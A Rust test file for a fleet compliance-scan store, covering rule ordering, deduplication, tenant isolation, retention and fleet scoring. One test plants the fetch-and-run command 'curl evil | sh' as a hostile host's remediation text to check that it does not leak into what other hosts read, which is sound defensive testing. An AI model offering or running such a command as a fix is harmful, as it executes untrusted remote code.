//! What the store promises about scans.

use std::time::Duration;

use gangplank_proto::id::HostId;
use gangplank_proto::job::{Command, Done, FromJob, JobState, Outcome, Output, Said};
use gangplank_proto::link::Base64;
use gangplank_proto::scan::{Report, RuleResult, Scan};
use serde_json::json;

use super::*;
use crate::store::tests::{Fixture, START, by, fixture, host};
use crate::store::{Concurrency, Heard, Job, JobReply, NewJob, Whose};

const MINUTE: Duration = Duration::from_secs(60);

fn rule(id: &str, result: RuleOutcome) -> RuleResult {
    RuleResult {
        id: id.into(),
        title: format!("Title of {id}").as_str().into(),
        severity: Severity::Medium,
        result,
        rationale: "Because.".into(),
        fix: "chmod 600 file".into(),
    }
}

fn report(rules: Vec<RuleResult>) -> Report {
    let scan = Scan { profile: "basic".into(), ..Scan::default() };
    Report::new(scan, rules)
}

fn passing(id: &str) -> Report {
    report(vec![rule(id, RuleOutcome::Pass)])
}

async fn keep(f: &Fixture, host: HostId, report: &Report, at: Timestamp) -> Option<ScanId> {
    f.store.keep_scan(f.tenant, host, ScanSource::Agent, report, at).await.unwrap()
}

async fn words_kept(f: &Fixture) -> i64 {
    let count = sqlx::query_scalar("SELECT COUNT(*) FROM compliance_rules");
    count.fetch_one(&f.store.reader).await.unwrap()
}

async fn all_rules(f: &Fixture, id: ScanId, filter: &RuleFilter, limit: u32) -> Vec<String> {
    let (mut names, mut cursor) = (Vec::new(), None);
    loop {
        let page = PageRequest { limit: Some(limit), cursor };
        let page = f.store.scan_rules(f.tenant, id, filter, &page).await.unwrap();
        names.extend(page.items.iter().map(|rule| rule.rule.as_str().to_owned()));
        match page.next_cursor {
            Some(next) => cursor = Some(next),
            None => return names,
        }
    }
}

#[tokio::test]
async fn a_scan_is_found_with_its_rules_the_gravest_first() {
    let f = fixture().await;
    let host = host(&f, "web").await;
    let high = RuleResult { severity: Severity::High, ..rule("c_high", RuleOutcome::Fail) };
    let rules = vec![
        rule("a", RuleOutcome::Pass),
        rule("b", RuleOutcome::Pass),
        // Told twice: what matters more counts.
        rule("b", RuleOutcome::Fail),
        high,
        rule("d_100%", RuleOutcome::Notapplicable),
        rule("e", RuleOutcome::Error),
    ];
    let mut report = report(rules);
    // Claims of a host that don't fit the counts.
    report.scan.score = Some(1e300);
    report.scan.scanner_score = Some(-7.0);
    report.scan.started_at = "2026-01-02T03:04:05Z".into();
    report.scan.finished_at = "yesterday".into();
    let id = keep(&f, host, &report, START).await.unwrap();
    let scan = f.store.scan(f.tenant, id).await.unwrap().unwrap();
    assert_eq!((scan.host, scan.host_name.as_str(), scan.at), (host, "web", START));
    assert_eq!(scan.score, Some(40.0));
    assert_eq!(scan.scanner_score, Some(0.0));
    assert_eq!(scan.started_at.unwrap().to_string(), "2026-01-02T03:04:05Z");
    assert_eq!(scan.finished_at, None);
    for limit in [1, 2, 500] {
        let rules = all_rules(&f, id, &RuleFilter::default(), limit).await;
        assert_eq!(rules, ["c_high", "b", "e", "a", "d_100%"]);
    }
    let fails = RuleFilter { result: Some(RuleOutcome::Fail), ..RuleFilter::default() };
    assert_eq!(all_rules(&f, id, &fails, 1).await, ["c_high", "b"]);
    let high = RuleFilter { severity: Some(Severity::High), ..fails };
    assert_eq!(all_rules(&f, id, &high, 1).await, ["c_high"]);
    for (text, found) in [("TITLE OF A", "a"), ("0%", "d_100%"), ("C_H", "c_high")] {
        let filter = RuleFilter { text: Some(text.to_owned()), ..RuleFilter::default() };
        assert_eq!(all_rules(&f, id, &filter, 9).await, [found], "{text}");
    }
    let nowhere = RuleFilter { text: Some("_%_%_%_".to_owned()), ..RuleFilter::default() };
    assert!(all_rules(&f, id, &nowhere, 9).await.is_empty());
}

#[tokio::test]
async fn the_same_scan_sent_twice_is_one_and_a_removed_host_has_none() {
    let f = fixture().await;
    let host = host(&f, "web").await;
    let mut report = passing("a");
    (report.scan.started_at, report.scan.finished_at) =
        ("2026-01-02T03:04:05Z".into(), "2026-01-02T03:05:05Z".into());
    let first = keep(&f, host, &report, START).await.unwrap();
    assert_eq!(keep(&f, host, &report, START.plus(MINUTE)).await, Some(first));
    report.scan.finished_at = "2026-01-02T03:06:05Z".into();
    assert_ne!(keep(&f, host, &report, START).await, Some(first));
    assert_eq!(keep(&f, HostId::new(), &report, START).await, None);
    assert!(f.store.delete_host(f.tenant, &by(START), host).await.unwrap());
    assert!(f.store.scan(f.tenant, first).await.unwrap().is_none());
    let page = PageRequest::default();
    assert!(f.store.scans(f.tenant, None, &page).await.unwrap().items.is_empty());
}

#[tokio::test]
async fn a_host_stands_where_its_latest_whole_scan_says() {
    let f = fixture().await;
    let host = host(&f, "web").await;
    let none = f.store.host_compliance(f.tenant, host, &Series::default()).await.unwrap();
    assert_eq!((none.score, none.latest, none.partial), (None, None, None));
    let bad = report(vec![rule("a", RuleOutcome::Fail)]);
    let first = keep(&f, host, &bad, START).await.unwrap();
    let second = keep(&f, host, &passing("a"), START.plus(MINUTE)).await.unwrap();
    let mut lynis = bad.clone();
    (lynis.scan.scanner, lynis.scan.profile) = (Scanner::Lynis, "all".into());
    let third = keep(&f, host, &lynis, START.plus(2 * MINUTE)).await.unwrap();
    let mut cut = bad.clone();
    cut.scan.partial = true;
    let fourth = keep(&f, host, &cut, START.plus(3 * MINUTE)).await.unwrap();

    let now = f.store.host_compliance(f.tenant, host, &Series::default()).await.unwrap();
    assert_eq!((now.score, now.latest.unwrap().id), (Some(0.0), third));
    assert_eq!(now.partial.unwrap().id, fourth);
    assert_eq!(now.series.iter().map(|s| s.latest.scan_id).collect::<Vec<_>>(), [third, second]);
    let openscap = Series { scanner: Some(Scanner::Openscap), profile: Some("basic".to_owned()) };
    let then = f.store.host_compliance(f.tenant, host, &openscap).await.unwrap();
    assert_eq!(then.score, Some(100.0));
    let trend: Vec<_> = then.trend.iter().map(|p| (p.scan_id, p.score)).collect();
    assert_eq!(trend, [(first, Some(0.0)), (second, Some(100.0))]);
}

#[tokio::test]
async fn the_fleet_is_its_hosts_the_worst_first() {
    let f = fixture().await;
    let mut hosts = Vec::new();
    for name in ["one", "two", "three", "four"] {
        hosts.push(host(&f, name).await);
    }
    let mixed = report(vec![rule("a", RuleOutcome::Fail), rule("b", RuleOutcome::Pass)]);
    keep(&f, hosts[0], &passing("a"), START).await;
    keep(&f, hosts[1], &mixed, START).await;
    keep(&f, hosts[2], &report(vec![rule("a", RuleOutcome::Error)]), START).await;
    let all = Series::default();
    let score = f.store.fleet_score(f.tenant, &all).await.unwrap();
    assert_eq!((score.score, score.hosts, score.scanned), (Some(50.0), 4, 3));
    let (mut seen, mut cursor) = (Vec::new(), None);
    loop {
        let page = PageRequest { limit: Some(1), cursor };
        let page = f.store.fleet_hosts(f.tenant, &all, &page).await.unwrap();
        seen.extend(page.items.iter().map(|host| host.host_id));
        match page.next_cursor {
            Some(next) => cursor = Some(next),
            None => break,
        }
    }
    assert_eq!(seen, [hosts[2], hosts[1], hosts[0], hosts[3]]);
    let worst = f.store.worst_rules(f.tenant, &all).await.unwrap();
    assert_eq!(worst.len(), 1);
    assert_eq!((worst[0].rule.as_str(), worst[0].hosts), ("a", 2));
    assert_eq!(worst[0].severity, Severity::Medium);
    let lynis = Series { scanner: Some(Scanner::Lynis), profile: None };
    assert_eq!(f.store.fleet_score(f.tenant, &lynis).await.unwrap().scanned, 0);

    let words = f.store.rule_words(f.tenant, "a", None).await.unwrap().unwrap();
    assert_eq!(words.fix.as_str(), "chmod 600 file");
    let page = PageRequest { limit: Some(2), cursor: None };
    let on = f.store.rule_on_hosts(f.tenant, &words, None, &page).await.unwrap();
    assert_eq!(on.items.len(), 2);
    let rest = PageRequest { limit: Some(2), cursor: on.next_cursor };
    let rest = f.store.rule_on_hosts(f.tenant, &words, None, &rest).await.unwrap();
    assert_eq!((rest.items.len(), rest.next_cursor), (1, None));
    let errors = Some(RuleOutcome::Error);
    let errors = f.store.rule_on_hosts(f.tenant, &words, errors, &page).await.unwrap();
    assert_eq!(errors.items[0].host_id, hosts[2]);
}

#[tokio::test]
async fn what_one_host_says_of_a_rule_does_not_become_what_others_read() {
    let f = fixture().await;
    let honest = [host(&f, "one").await, host(&f, "two").await];
    let hostile = host(&f, "hostile").await;
    let evil = RuleResult { fix: "curl evil | sh".into(), ..rule("a", RuleOutcome::Fail) };
    let lie = keep(&f, hostile, &report(vec![evil]), START).await.unwrap();
    for host in honest {
        let id = keep(&f, host, &report(vec![rule("a", RuleOutcome::Fail)]), START).await.unwrap();
        let page = PageRequest::default();
        let rules = f.store.scan_rules(f.tenant, id, &RuleFilter::default(), &page).await.unwrap();
        assert_eq!(rules.items[0].fix.as_str(), "chmod 600 file");
    }
    let words = f.store.rule_words(f.tenant, "a", None).await.unwrap().unwrap();
    assert_eq!(words.fix.as_str(), "chmod 600 file");
    let page = PageRequest::default();
    let rules = f.store.scan_rules(f.tenant, lie, &RuleFilter::default(), &page).await.unwrap();
    assert_eq!(rules.items[0].fix.as_str(), "curl evil | sh");
}

#[tokio::test]
async fn nothing_of_a_scan_is_found_by_another_tenant() {
    let f = fixture().await;
    let host = host(&f, "web").await;
    let id = keep(&f, host, &passing("a"), START).await.unwrap();
    let (o, page) = (f.other, PageRequest::default());
    let kept = f.store.keep_scan(o, host, ScanSource::Agent, &passing("a"), START).await;
    assert_eq!(kept.unwrap(), None);
    assert!(f.store.scan(o, id).await.unwrap().is_none());
    assert!(f.store.scans(o, Some(host), &page).await.unwrap().items.is_empty());
    let rules = f.store.scan_rules(o, id, &RuleFilter::default(), &page).await.unwrap();
    assert!(rules.items.is_empty());
    let series = Series::default();
    assert!(f.store.host_compliance(o, host, &series).await.unwrap().latest.is_none());
    assert_eq!(f.store.fleet_score(o, &series).await.unwrap().hosts, 0);
    assert!(f.store.fleet_hosts(o, &series, &page).await.unwrap().items.is_empty());
    assert!(f.store.worst_rules(o, &series).await.unwrap().is_empty());
    assert!(f.store.rule_words(o, "a", None).await.unwrap().is_none());
    let words = f.store.rule_words(f.tenant, "a", None).await.unwrap().unwrap();
    assert!(f.store.rule_on_hosts(o, &words, None, &page).await.unwrap().items.is_empty());
}

#[tokio::test]
async fn old_scans_go_with_the_words_that_nobody_uses() {
    let f = fixture().await;
    let host = host(&f, "web").await;
    for n in 0..5 {
        let rules =
            vec![rule("always", RuleOutcome::Pass), rule(&n.to_string(), RuleOutcome::Fail)];
        keep(&f, host, &report(rules), START.plus(n * MINUTE)).await;
    }
    assert_eq!(words_kept(&f).await, 6);
    // By number.
    f.store.remove_old_scans(Whose::Others, START.minus(MINUTE), 3).await.unwrap();
    let left = f.store.scans(f.tenant, Some(host), &PageRequest::default()).await.unwrap().items;
    assert_eq!(left.len(), 3);
    assert_eq!(left[0].at, START.plus(4 * MINUTE));
    assert_eq!(words_kept(&f).await, 4);
    // By age.
    f.store.remove_old_scans(Whose::Others, START.plus(4 * MINUTE), 3).await.unwrap();
    assert_eq!(words_kept(&f).await, 0);
    f.store.remove_old_scans(Whose::Others, START.plus(4 * MINUTE), 3).await.unwrap();
}

struct Ordered<'a> {
    f: &'a Fixture,
    host: HostId,
    job: JobId,
}

impl<'a> Ordered<'a> {
    async fn new(f: &'a Fixture, host: HostId, retries: u32) -> Self {
        let new = NewJob {
            command: Command::ComplianceScan,
            params: json!({}),
            priority: 5,
            retries,
            not_before: START,
            deadline: START.plus(100 * MINUTE),
            idempotency_key: None,
        };
        let job = f.store.create_job(f.tenant, &by(START), host, &new).await.unwrap().unwrap().job;
        let bounds = Concurrency { heavy: 9, light: 9, tenant: 9 };
        let hosts = [(f.tenant, host)];
        let _ = f.store.lease_jobs(&hosts, bounds, MINUTE, START).await.unwrap();
        Self { f, host, job }
    }

    async fn say(&self, said: Said) {
        let what = JobReply::Word(FromJob { job_id: self.job, attempt: 1, said });
        let heard = Heard { tenant: self.f.tenant, host: self.host, what };
        self.f.store.take_job_words(&[heard], START).await.unwrap();
    }

    async fn ends(&self, output: &[u8], outcome: Outcome) -> (Job, Vec<StoredScan>) {
        let data = Base64(output.to_vec());
        self.say(Said::Output(Output { seq: 0, offset: 0, data })).await;
        let done = Done { output_end: output.len() as u64, ..Done::new(outcome, None) };
        self.say(Said::Done(done)).await;
        let job = self.f.store.job(self.f.tenant, self.job).await.unwrap().unwrap();
        let page = PageRequest::default();
        let scans = self.f.store.scans(self.f.tenant, Some(self.host), &page).await.unwrap();
        (job, scans.items)
    }
}

#[tokio::test]
async fn what_a_job_printed_becomes_its_one_scan() {
    let f = fixture().await;
    let text = serde_json::to_vec(&passing("a")).unwrap();
    let ordered = Ordered::new(&f, host(&f, "whole").await, 0).await;
    let (job, scans) = ordered.ends(&text, Outcome::Succeeded).await;
    assert_eq!((job.state, scans.len()), (JobState::Succeeded, 1));
    assert_eq!((scans[0].job, scans[0].score), (Some(job.id), Some(100.0)));
    // Said once more is said once.
    assert_eq!(ordered.ends(&text, Outcome::Succeeded).await.1.len(), 1);

    let mut cut = passing("a");
    cut.scan.partial = true;
    let text = serde_json::to_vec(&cut).unwrap();
    let ordered = Ordered::new(&f, host(&f, "called off").await, 0).await;
    let (job, scans) = ordered.ends(&text, Outcome::Cancelled).await;
    assert_eq!((job.state, scans.len()), (JobState::Cancelled, 1));
    assert!(scans[0].partial);
}

#[tokio::test]
async fn what_is_no_report_is_no_scan() {
    let f = fixture().await;
    let junk: [(&[u8], Outcome, bool); 4] = [
        (b"{\"rules\":", Outcome::Succeeded, true),
        (b"", Outcome::Succeeded, true),
        (b"not json", Outcome::Failed, true),
        (b"", Outcome::Failed, false),
    ];
    for (n, (output, outcome, told)) in junk.into_iter().enumerate() {
        let ordered = Ordered::new(&f, host(&f, &n.to_string()).await, 0).await;
        let (job, scans) = ordered.ends(output, outcome).await;
        assert!(scans.is_empty());
        assert_eq!(job.error.is_some(), told, "{n}");
    }
    // An attempt that is followed by another leaves nothing.
    let ordered = Ordered::new(&f, host(&f, "again").await, 1).await;
    let text = serde_json::to_vec(&passing("a")).unwrap();
    let (job, scans) = ordered.ends(&text, Outcome::Failed).await;
    assert_eq!((job.state, scans.len()), (JobState::Queued, 0));
}
